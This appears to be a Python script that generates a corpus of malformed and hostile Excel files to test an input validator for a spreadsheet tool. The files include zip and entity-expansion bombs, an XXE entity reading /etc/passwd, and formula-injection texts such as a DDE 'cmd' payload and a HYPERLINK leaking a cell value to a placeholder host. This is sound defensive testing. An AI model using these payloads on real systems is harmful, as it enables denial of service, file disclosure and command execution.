"""Generate the bad-input corpus (issue 8): files a clerk, a broken download or an attacker could hand
to xlperf. Everything is generated at test time from the bundled example — no binary fixtures in git.

    python tests/bad_inputs/make_corpus.py [OUT_DIR]     # default tests/bad_inputs/out (git-ignored)

Each :class:`Case` says what xlperf must answer: the exit code of ``xlperf check``/``xlperf run``
(2 = unreadable, 1 = content findings) and what the Chinese message must name (sheet, cell, words).
"""

from __future__ import annotations

import io
import random
import re
import struct
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from openpyxl.workbook.workbook import Workbook

from xlperf.core.framework import get_framework
from xlperf.examples import example_evaluation
from xlperf.workbook import layout as L
from xlperf.workbook.cells import put_text
from xlperf.workbook.template import build_workbook, save_workbook

ROWS_MILLION = 1_000_000
LONG_TEXT = 32_767  # Excel's limit for one cell


@dataclass(frozen=True)
class Case:
    """One corpus file and what xlperf must say about it."""

    name: str
    path: Path
    exit_code: int  # of `xlperf check` and `xlperf run` (2 unreadable, 1 content findings)
    about: str
    sheet: str | None = None  # the message must name this sheet …
    cell: str | None = None  # … and this cell (as 工作表!单元格)
    words: tuple[str, ...] = ()  # and contain these words
    args: tuple[str, ...] = ()  # extra command-line options (limits)
    big: bool = False  # large or slow to process (million rows, bombs)


# --------------------------------------------------------------------------- helpers


def example_book() -> Workbook:
    ev = example_evaluation()
    return build_workbook(get_framework(ev.framework), ev)


def example_bytes() -> bytes:
    buf = io.BytesIO()
    example_book().save(buf)
    return buf.getvalue()


def input_text_cells(wb: Workbook) -> Iterator[tuple[str, str]]:
    """(sheet, coordinate) of every text input: defined-name text fields and text columns of tables."""
    for f in L.all_fields():
        if f.type in (L.FieldType.TEXT, L.FieldType.LONGTEXT):
            dest = next(iter(wb.defined_names[f.name].destinations))
            yield dest[0], dest[1].replace("$", "")
    from openpyxl.utils import get_column_letter
    from openpyxl.utils.cell import range_boundaries

    for spec in L.TABLES:
        for ws in wb.worksheets:
            if spec.table not in ws.tables:
                continue
            min_col, min_row, max_col, max_row = range_boundaries(ws.tables[spec.table].ref)
            assert min_col and min_row and max_col and max_row
            headers = {ws.cell(min_row, c).value: c for c in range(min_col, max_col + 1)}
            for column in spec.columns:
                if (
                    column.type not in (L.ColumnType.TEXT, L.ColumnType.LONGTEXT)
                    or column.header not in headers
                ):
                    continue
                col = headers[column.header]
                for r in range(min_row + 1, max_row + 1):
                    row_used = any(
                        ws.cell(r, c).value not in (None, "")
                        for c in range(min_col, max_col + 1)
                        if ws.cell(min_row, c).value not in ("序号", "月份", "编号")
                    )
                    if row_used or spec.table in ("tbl_tasks", "tbl_problems", "tbl_improvements"):
                        yield ws.title, f"{get_column_letter(col)}{r}"


def rewrite_zip(
    src: bytes,
    dest: Path,
    replace: dict[str, Callable[[bytes], bytes]] | None = None,
    add: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
) -> None:
    """Copy a zip part by part, changing some parts (as bytes) on the way."""
    replace = replace or {}
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename in drop:
                continue
            data = zin.read(info)
            if info.filename in replace:
                data = replace[info.filename](data)
            zout.writestr(info.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)


def sheet_part(src: bytes, title: str) -> str:
    """The zip part name of the worksheet called ``title``."""
    with zipfile.ZipFile(io.BytesIO(src)) as zf:
        wb_xml = zf.read("xl/workbook.xml").decode()
        rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(rf'<sheet[^>]*name="{re.escape(title)}"[^>]*r:id="(rId\d+)"', wb_xml)
    assert rid, title
    target = re.search(rf'<Relationship[^>]*Id="{rid.group(1)}"[^>]*Target="([^"]+)"', rels) or re.search(
        rf'<Relationship[^>]*Target="([^"]+)"[^>]*Id="{rid.group(1)}"', rels
    )
    assert target
    path = target.group(1).lstrip("/")
    return path if path.startswith("xl/") else f"xl/{path}"


# --------------------------------------------------------------------------- OLE compound files


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal, valid Compound File Binary (version 3, 512-byte sectors), the container of .xls,
    WPS .et and password-protected .xlsx. ``streams`` maps "name" or "storage/name" to bytes; each
    stream is padded to 4096 bytes so that everything lives in the regular FAT (no mini stream)."""
    end, free, fatsect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    # directory tree: entry 0 is the root; storages get ids as they appear
    entries: list[dict[str, Any]] = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]
    by_path: dict[str, int] = {"": 0}
    for path, data in streams.items():
        parent = ""
        parts = path.split("/")
        for depth, part in enumerate(parts):
            key = "/".join(parts[: depth + 1])
            if key not in by_path:
                is_stream = depth == len(parts) - 1
                entries.append(
                    {
                        "name": part,
                        "type": 2 if is_stream else 1,
                        "children": [],
                        "data": data.ljust(4096, b"\0") if is_stream else b"",
                    }
                )
                by_path[key] = len(entries) - 1
                entries[by_path[parent]]["children"].append(len(entries) - 1)
            parent = key
    sectors: list[bytes] = []
    fat: list[int] = []

    def chain(data: bytes) -> int:
        start = len(sectors)
        n = (len(data) + 511) // 512
        for i in range(n):
            sectors.append(data[i * 512 : (i + 1) * 512].ljust(512, b"\0"))
            fat.append(start + i + 1 if i < n - 1 else end)
        return start

    for entry in entries:
        entry["start"] = chain(entry["data"]) if entry["type"] == 2 else end

    def order(i: int) -> tuple[int, str]:
        return len(entries[i]["name"]), entries[i]["name"].upper()  # CFB order: length, then upper case

    left = {i: nostream for i in range(len(entries))}
    right = dict(left)
    child = dict(left)

    def tree(ids: list[int]) -> int:
        if not ids:
            return nostream
        mid = len(ids) // 2
        left[ids[mid]], right[ids[mid]] = tree(ids[:mid]), tree(ids[mid + 1 :])
        return ids[mid]

    for i, entry in enumerate(entries):
        child[i] = tree(sorted(entry["children"], key=order))
    directory = b""
    for i, entry in enumerate(entries):
        name = entry["name"].encode("utf-16-le") + b"\0\0"
        directory += struct.pack(
            "<64sHBBIII16sIQQIQ",
            name,
            len(name),
            entry["type"],
            1,
            left[i],
            right[i],
            child[i],
            b"\0" * 16,
            0,
            0,
            0,
            entry["start"],
            len(entry["data"]),
        )
    directory = directory.ljust(((len(directory) + 511) // 512) * 512, b"\0")
    # unused directory slots: empty entries whose links say "none"
    empty = struct.pack(
        "<64sHBBIII16sIQQIQ", b"", 0, 0, 0, nostream, nostream, nostream, b"\0" * 16, 0, 0, 0, 0, 0
    )
    used = len(entries) * 128
    directory = directory[:used] + empty * ((len(directory) - used) // 128)
    first_dir = chain(directory)
    n_fat = 1
    while (len(sectors) + n_fat) > n_fat * 128:
        n_fat += 1
    assert n_fat <= 109
    fat_start = len(sectors)
    fat += [fatsect] * n_fat
    fat += [free] * (n_fat * 128 - len(fat))
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    for i in range(n_fat):
        sectors.append(fat_bytes[i * 512 : (i + 1) * 512])
    difat = [fat_start + i for i in range(n_fat)] + [free] * (109 - n_fat)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\0" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\0" * 6,
        0,
        n_fat,
        first_dir,
        0,
        4096,
        end,
        0,
        end,
        0,
    ) + struct.pack("<109I", *difat)
    assert len(header) == 512
    return header + b"".join(sectors)


def biff8_workbook_stream() -> bytes:
    """BOF (BIFF8, workbook globals) … EOF: the start of every .xls Workbook stream."""
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0x000000C1, 0x00000006)
    return bof + struct.pack("<HH", 0x000A, 0)


def encryption_info_agile() -> bytes:
    """Version 4.4 (agile) EncryptionInfo as written by Office 2010+ for a password-protected .xlsx."""
    xml = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        '<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" '
        'xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
        '<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
        'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
        '<keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
        '<p:encryptedKey spinCount="100000" saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
        'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
        'saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></keyEncryptor></keyEncryptors></encryption>'
    )
    return struct.pack("<HHI", 4, 4, 0x40) + xml.encode("utf-8")


def encrypted_cfb(package_size: int = 20_000) -> bytes:
    """A structurally faithful password-protected OOXML file ([MS-OFFCRYPTO] §2.3.4.15): EncryptionInfo,
    EncryptedPackage (8-byte size + ciphertext, here random bytes) and the \\x06DataSpaces storage."""
    rng = random.Random(8)
    return cfb(
        {
            "EncryptionInfo": encryption_info_agile(),
            "EncryptedPackage": struct.pack("<Q", package_size) + rng.randbytes(package_size + 16),
            "\x06DataSpaces/Version": b"\x3c\x00\x00\x00"
            + "Microsoft.Container.DataSpaces".encode("utf-16-le"),
            "\x06DataSpaces/DataSpaceMap": struct.pack("<II", 8, 1),
            "\x06DataSpaces/DataSpaceInfo/StrongEncryptionDataSpace": struct.pack("<II", 8, 1),
            "\x06DataSpaces/TransformInfo/StrongEncryptionTransform/\x06Primary": struct.pack("<I", 0x58),
        }
    )


def real_encrypted(src: bytes, password: str = "xlperf") -> bytes | None:
    """A real password-protected .xlsx made by msoffcrypto-tool, when that test dependency is installed."""
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError:
        return None
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(src)).encrypt(password, out)
    return out.getvalue()


# --------------------------------------------------------------------------- large parts, streamed


def million_rows(src: bytes, dest: Path, *, dimension: bool, rows: int = ROWS_MILLION) -> None:
    """Replace the 填表说明 sheet with ``rows`` rows, written in a streamed zip (never in memory at once)."""
    part = sheet_part(src, L.README)
    head = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + (f'<dimension ref="A1:B{rows}"/>' if dimension else "")
        + "<sheetData>"
    )
    with (
        zipfile.ZipFile(io.BytesIO(src)) as zin,
        zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zout,
    ):
        for info in zin.infolist():
            if info.filename != part:
                zout.writestr(info.filename, zin.read(info))
                continue
            with zout.open(part, "w", force_zip64=True) as fh:
                fh.write(head.encode())
                for start in range(1, rows + 1, 50_000):
                    stop = min(start + 50_000, rows + 1)
                    fh.write(
                        "".join(
                            f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(start, stop)
                        ).encode()
                    )
                fh.write(b"</sheetData></worksheet>")


def zip_bomb(src: bytes, dest: Path, mb: int = 64) -> None:
    """A part of zeros that expands about a thousand times."""
    with (
        zipfile.ZipFile(io.BytesIO(src)) as zin,
        zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zout,
    ):
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info))
        with zout.open("xl/media/image1.png", "w", force_zip64=True) as fh:
            block = b"\0" * (1 << 20)
            for _ in range(mb):
                fh.write(block)


def lying_zip_bomb(src: bytes, dest: Path, mb: int = 32) -> None:
    """Like :func:`zip_bomb`, but the headers claim the part is 1 KB (a "lying" zip): limits that trust
    the declared sizes pass, so reading must stop at the declared size and fail on the checksum."""
    zip_bomb(src, dest, mb)
    data = bytearray(dest.read_bytes())
    name = b"xl/media/image1.png"
    # central directory entry: signature PK\1\2, uncompressed size at +24, name at +46
    cd = 0
    while True:
        cd = data.find(b"PK\x01\x02", cd)
        assert cd >= 0
        name_len = struct.unpack_from("<H", data, cd + 28)[0]
        if bytes(data[cd + 46 : cd + 46 + name_len]) == name:
            break
        cd += 4
    extra_len = struct.unpack_from("<H", data, cd + 30)[0]
    local = struct.unpack_from("<I", data, cd + 42)[0]
    comp = struct.unpack_from("<I", data, cd + 20)[0]
    if comp == 0xFFFFFFFF or local == 0xFFFFFFFF:  # zip64 sizes live in the extra field
        extra = cd + 46 + name_len
        end_extra = extra + extra_len
        while extra < end_extra:
            tag, size = struct.unpack_from("<HH", data, extra)
            if tag == 0x0001:
                values = list(struct.unpack_from(f"<{size // 8}Q", data, extra + 4))
                values[0] = 1024  # uncompressed size
                struct.pack_into(f"<{size // 8}Q", data, extra + 4, *values)
            extra += 4 + size
    else:
        struct.pack_into("<I", data, cd + 24, 1024)
    local_off = local if local != 0xFFFFFFFF else None
    if local_off is not None:
        local_name_len, _local_extra_len = struct.unpack_from("<HH", data, local_off + 26)
        if struct.unpack_from("<I", data, local_off + 22)[0] == 0xFFFFFFFF:
            extra = local_off + 30 + local_name_len
            struct.pack_into("<Q", data, extra + 4, 1024)
        else:
            struct.pack_into("<I", data, local_off + 22, 1024)
    dest.write_bytes(bytes(data))


def encrypted_zip_entry(src: bytes, dest: Path) -> None:
    """Set the "encrypted" flag of every entry, as a zip tool does when it adds a password."""
    data = bytearray(src)
    for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = 0
        while (pos := data.find(sig, pos)) >= 0:
            struct.pack_into("<H", data, pos + flag_at, struct.unpack_from("<H", data, pos + flag_at)[0] | 1)
            pos += 4
    dest.write_bytes(bytes(data))


BILLION_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [\n<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    + ']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    "<si><t>&lol9;</t></si></sst>"
)


XXE_PROLOG = b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'

SST_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
SST_REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def with_shared_strings(src: bytes, dest: Path, sst: bytes) -> None:
    """Add (or replace) xl/sharedStrings.xml, declared as Excel declares it (openpyxl writes inline
    strings, so its files have none), and point 基本信息!B5 at string 0."""
    basic = sheet_part(src, L.BASIC)
    with zipfile.ZipFile(io.BytesIO(src)) as zf:
        has_sst = "xl/sharedStrings.xml" in zf.namelist()
    replace: dict[str, Callable[[bytes], bytes]] = {"xl/sharedStrings.xml": lambda _: sst}
    if not has_sst:
        replace["[Content_Types].xml"] = lambda d: d.replace(
            b"</Types>",
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="' + SST_TYPE + b'"/></Types>',
        )
        replace["xl/_rels/workbook.xml.rels"] = lambda d: d.replace(
            b"</Relationships>",
            b'<Relationship Type="'
            + SST_REL
            + b'" Target="/xl/sharedStrings.xml" Id="rIdSst"/></Relationships>',
        )
    replace[basic] = lambda d: re.sub(
        rb'<c r="B5"([^>]*?)(?: t="\w+")?>.*?</c>', rb'<c r="B5"\1 t="s"><v>0</v></c>', d, count=1
    )
    rewrite_zip(src, dest, replace=replace, add=None if has_sst else {"xl/sharedStrings.xml": sst})


# --------------------------------------------------------------------------- typed forms (docs/DOMAIN.md §3)

#: What a clerk types into a numeric cell → the number xlperf must read, or None: rejected with a
#: message on that cell (blank and the "nothing" words count as empty: the V10 finding names the row).
TYPED_FORMS: tuple[tuple[str, Any, str | None], ...] = (
    ("plain", 1957, "1957"),
    ("thousands", "1,957", "1957"),
    ("unit", "1957个", "1957"),
    ("fullwidth", "１９５７", "1957"),
    ("percent", "92.13%", None),  # unit % against the row's unit 个 → P01 on the cell
    ("fraction", 0.9213, "0.9213"),
    ("ge_percent", "≥5%", None),
    ("not_less", "不少于180家", None),  # unit 家 against 个
    ("per_term", "每届不少于150家", None),
    ("blank", None, None),
    ("dash", "-", None),
    ("slash", "/", None),
    ("none_word", "无", None),
    ("formula", "=1957+0", None),
    ("error", "#DIV/0!", None),
)


def put_form(cell: Any, value: Any) -> None:
    """Store a typed form as Excel would: numbers as numbers, ``=…`` as a formula, ``#…!`` as an error."""
    if isinstance(value, str) and value.startswith("#"):
        cell.value = value
        cell.data_type = "e"
    elif isinstance(value, str) and not value.startswith("="):
        put_text(cell, value)
    else:
        cell.value = value


def typed_forms_book() -> tuple[Workbook, dict[str, str]]:
    """The example with each typed form in the 实际值 of one 产出 row; returns form name → cell."""
    wb = example_book()
    ws = wb[L.OUTPUTS]
    cells = {}
    for row, (name, value, _) in zip(range(5, 5 + len(TYPED_FORMS)), TYPED_FORMS, strict=True):
        put_form(ws[f"K{row}"], value)
        cells[name] = f"K{row}"
    return wb, cells


def with_cached_value(data: bytes, part: str, coord: str, cached: str) -> bytes:
    """Give a formula cell the cached result Excel would have saved (openpyxl writes none)."""
    text = data.decode()
    pattern = re.compile(rf'(<c r="{coord}"[^>]*>)<f>([^<]*)</f><v\s*/?>(?:</v>)?')
    new, n = pattern.subn(rf"\1<f>\2</f><v>{cached}</v>", text)
    assert n == 1, (part, coord)
    return new.encode()


# --------------------------------------------------------------------------- the corpus


def make_corpus(folder: Path, *, big: bool = True) -> dict[str, Case]:
    """Write every case into ``folder``; return them by name. ``big=False`` skips the slow ones."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    src = example_bytes()
    cases: dict[str, Case] = {}

    def case(name: str, exit_code: int, about: str, **kw: Any) -> Path:
        path = folder / f"{name}.xlsx"
        cases[name] = Case(name, path, exit_code, about, **kw)
        return path

    def save(wb: Workbook, path: Path) -> None:
        save_workbook(wb, path)

    rng = random.Random(20231231)
    # ---- not a workbook at all
    case("random_bytes", 2, "random bytes named .xlsx", words=("不是有效的 .xlsx",)).write_bytes(
        rng.randbytes(30_000)
    )
    # issue 25: a CSV renamed .xlsx is told to use the template (re-saving it would not make one)
    case("text_file", 2, "a CSV file renamed .xlsx", words=("CSV 文本文件", "标准自评表")).write_text(
        "部门,预算数,执行数\n白云区科工商信局,80000,76740.31\n", encoding="utf-8"
    )
    case("empty", 2, "an empty file", words=("空文件",)).write_bytes(b"")
    case("truncated", 2, "a download cut in the middle", words=("不是有效的 .xlsx",)).write_bytes(
        src[: len(src) // 2]
    )
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as zf:
        zf.writestr("word/document.xml", "<w:document/>")
        zf.writestr("[Content_Types].xml", "<Types/>")
    case("zip_not_workbook", 2, "a zip (a .docx) renamed .xlsx", words=("不是 Excel 工作簿",)).write_bytes(
        zbuf.getvalue()
    )
    # ---- OLE compound files: legacy .xls, WPS .et, password-protected .xlsx
    case(
        "legacy_xls", 2, ".xls (BIFF8 in a compound file) renamed .xlsx", words=("旧版 .xls", "另存为")
    ).write_bytes(cfb({"Workbook": biff8_workbook_stream(), "\x05SummaryInformation": b"\xfe\xff\0\0"}))
    case("wps_et", 2, "WPS .et renamed .xlsx", words=("WPS .et",)).write_bytes(
        cfb({"Workbook": biff8_workbook_stream(), "ETExtData": b"WPS Office ET", "WpsCustomData": b"\0" * 8})
    )
    case("encrypted", 2, "password-protected .xlsx (faithful compound file)", words=("密码",)).write_bytes(
        encrypted_cfb()
    )
    real = real_encrypted(src)
    if real is not None:
        case(
            "encrypted_real", 2, "password-protected .xlsx made by msoffcrypto-tool", words=("密码",)
        ).write_bytes(real)
    encrypted_zip_entry(
        src, case("zip_entry_password", 2, "zip entries flagged as encrypted", words=("密码",))
    )
    # ---- XML and zip bombs, huge sheets
    with_shared_strings(
        src,
        case(
            "billion_laughs", 2, "entity expansion bomb in sharedStrings.xml", words=("实体", "sharedStrings")
        ),
        BILLION_LAUGHS.encode(),
    )
    rewrite_zip(
        src,
        case("doctype_in_sheet", 2, "an external-entity DTD in a worksheet", words=("DTD",)),
        replace={sheet_part(src, L.BASIC): lambda d: XXE_PROLOG + d.split(b"?>", 1)[-1]},
    )
    filler = "".join(f"{rng.getrandbits(64):016x}" for _ in range(200_000)).encode()  # 3.2 MB, ratio ~2
    rewrite_zip(
        src,
        case(
            "expanded_too_big",
            2,
            "expands past --max-expanded-mb 2",
            words=("解压后", "--max-expanded-mb"),
            args=("--max-expanded-mb", "2"),
        ),
        add={"customXml/item9.xml": filler},
    )
    rewrite_zip(
        src,
        case(
            "too_many_rows_option",
            2,
            "a table sheet past --max-rows 20",
            words=("行", "--max-rows"),
            args=("--max-rows", "20"),
        ),
    )
    tables = {}
    with zipfile.ZipFile(io.BytesIO(src)) as zf:
        for n in zf.namelist():
            if n.startswith("xl/tables/") and b'"tbl_outputs"' in zf.read(n):
                tables[n] = lambda d: re.sub(rb'ref="A4:R34"', b'ref="A4:R1000000"', d)
    assert tables
    rewrite_zip(
        src,
        case("huge_table_ref", 2, "a table claiming a million rows", words=("表格", "行")),
        replace=tables,
    )
    if big:
        # the declared <dimension> is not trusted (issue 12): the rows really there are counted
        million_rows(
            src,
            case(
                "million_rows",
                2,
                "a sheet of 1,000,000 rows",
                words=("填表说明", "超过上限 100,000 行"),
                big=True,
            ),
            dimension=True,
        )
        million_rows(
            src,
            case(
                "million_rows_no_dimension",
                2,
                "1,000,000 rows, no <dimension>",
                words=("超过上限",),
                big=True,
            ),
            dimension=False,
        )
        zip_bomb(
            src, case("zip_bomb", 2, "a part that expands a thousand times", words=("压缩炸弹",), big=True)
        )
        lying_zip_bomb(
            src, case("zip_bomb_lying", 2, "a bomb whose headers claim 1 KB", words=("已损坏",), big=True)
        )
    # ---- structure changed by the clerk (content findings, exit 1)
    wb = example_book()
    del wb[L.BENEFITS]
    save(wb, case("missing_sheet", 1, "效益指标 deleted", words=("效益指标", "tbl_benefits")))
    wb = example_book()
    wb[L.OUTPUTS].title = "产出指标（修改）"
    save(  # read under its new name, with a 提醒 naming it (issue 25)
        wb,
        case(
            "renamed_sheet",
            1,
            "产出指标 renamed",
            sheet="产出指标（修改）",
            words=("没有名为“产出指标”的工作表", "产出指标（修改）"),
        ),
    )
    wb = example_book()
    del wb.defined_names["xp_total_budget"]
    save(
        wb,
        case(
            "deleted_name", 1, "defined name xp_total_budget deleted", words=("xp_total_budget", "全年预算数")
        ),
    )
    wb = example_book()
    del wb[L.OUTPUTS].tables["tbl_outputs"]
    save(wb, case("removed_table", 1, "table tbl_outputs removed", sheet=L.OUTPUTS, words=("tbl_outputs",)))
    wb = example_book()
    table = wb[L.OUTPUTS].tables["tbl_outputs"]
    for col in table.tableColumns:
        if col.name == "实际值":
            col.name = "实际完成值"
    for cell in wb[L.OUTPUTS][4]:
        if cell.value == "实际值":
            cell.value = "实际完成值"
    save(
        wb, case("renamed_headers", 1, "header 实际值 renamed", sheet=L.OUTPUTS, cell="A4", words=("实际值",))
    )
    wb = example_book()
    wb[L.BUDGET].merge_cells("A8:B8")  # label and 全年实际执行数 merged: the value cell is covered
    wb[L.OUTPUTS].merge_cells("K6:L6")  # 实际值 and 年度实际值（文字） of 产出 row 2
    save(wb, case("merged_inputs", 1, "merged cells over inputs", sheet=L.BUDGET, cell="B8", words=("合并",)))
    # ---- typed forms, formulas and error values
    wb, cells = typed_forms_book()
    save(
        wb,
        case(
            "typed_forms",
            1,
            "docs/DOMAIN.md §3 typed forms in 实际值",
            sheet=L.OUTPUTS,
            cell=cells["error"],
            words=("错误值", "公式"),
        ),
    )
    wb = example_book()
    wb[L.BUDGET]["B8"] = "=76740.31+0"  # with a cached value patched in below
    wb[L.BUDGET]["B11"] = "=SUM(1,2"  # never computed
    wb[L.BUDGET]["B16"].value, wb[L.BUDGET]["B16"].data_type = "#REF!", "e"
    wb[L.SPENDING]["B5"].value, wb[L.SPENDING]["B5"].data_type = "#N/A", "e"
    path = case(
        "formulas_and_errors",
        1,
        "formulas and Excel error values in inputs",
        sheet=L.BUDGET,
        cell="B11",
        words=("公式", "错误值"),
    )
    save(wb, path)
    part = sheet_part(src, L.BUDGET)
    rewrite_zip(
        path.read_bytes(), path, replace={part: lambda d: with_cached_value(d, part, "B8", "76740.31")}
    )
    # ---- hostile or extreme texts
    wb = example_book()
    prefixes = ("=", "+", "-", "@")
    for i, (sheet, coord) in enumerate(input_text_cells(wb)):
        put_text(wb[sheet][coord], formula_text(i, prefixes[i % 4]))
    save(wb, case("formula_texts", 1, "texts starting with = + - @ in every text input"))
    wb = example_book()
    fields = {next(iter(wb.defined_names[f.name].destinations)) for f in L.all_fields()}
    fields = {(sheet, coord.replace("$", "")) for sheet, coord in fields}
    seen: set[tuple[str, str]] = set()  # (sheet, column): one long text per table column keeps the file small
    for i, (sheet, coord) in enumerate(input_text_cells(wb)):
        column = (sheet, coord.rstrip("0123456789"))
        if (sheet, coord) not in fields:
            if column in seen:
                continue
            seen.add(column)
        put_text(wb[sheet][coord], long_text(i))
    save(wb, case("long_texts", 1, "32,767-character texts in every text input"))
    return cases


def formula_text(i: int, prefix: str) -> str:
    """Text that a spreadsheet would take for a formula if it were not stored as text."""
    bodies = ('HYPERLINK("http://example.invalid/?"&A1,"点击")', "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)")
    return f"{prefix}{bodies[i % len(bodies)]}#{i}"


LONG_ALPHABET = (
    "部门整体支出绩效自评预算执行率产出效益指标完成情况管理效率资金项目年度目标实际值说明，。；、"
    "abcdefghijklmnopqrstuvwxyz0123456789 "
)


def long_text(i: int) -> str:
    """Excel's longest cell text, not repetitive (real prose compresses a few times, not hundreds)."""
    rng = random.Random(i)
    head = f"第{i}段："
    return head + "".join(rng.choices(LONG_ALPHABET, k=LONG_TEXT - len(head)))


def main(argv: list[str]) -> int:
    out = Path(argv[1]) if len(argv) > 1 else Path(__file__).with_name("out")
    for c in make_corpus(out).values():
        print(f"{c.exit_code}  {c.path.name:34} {c.about}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
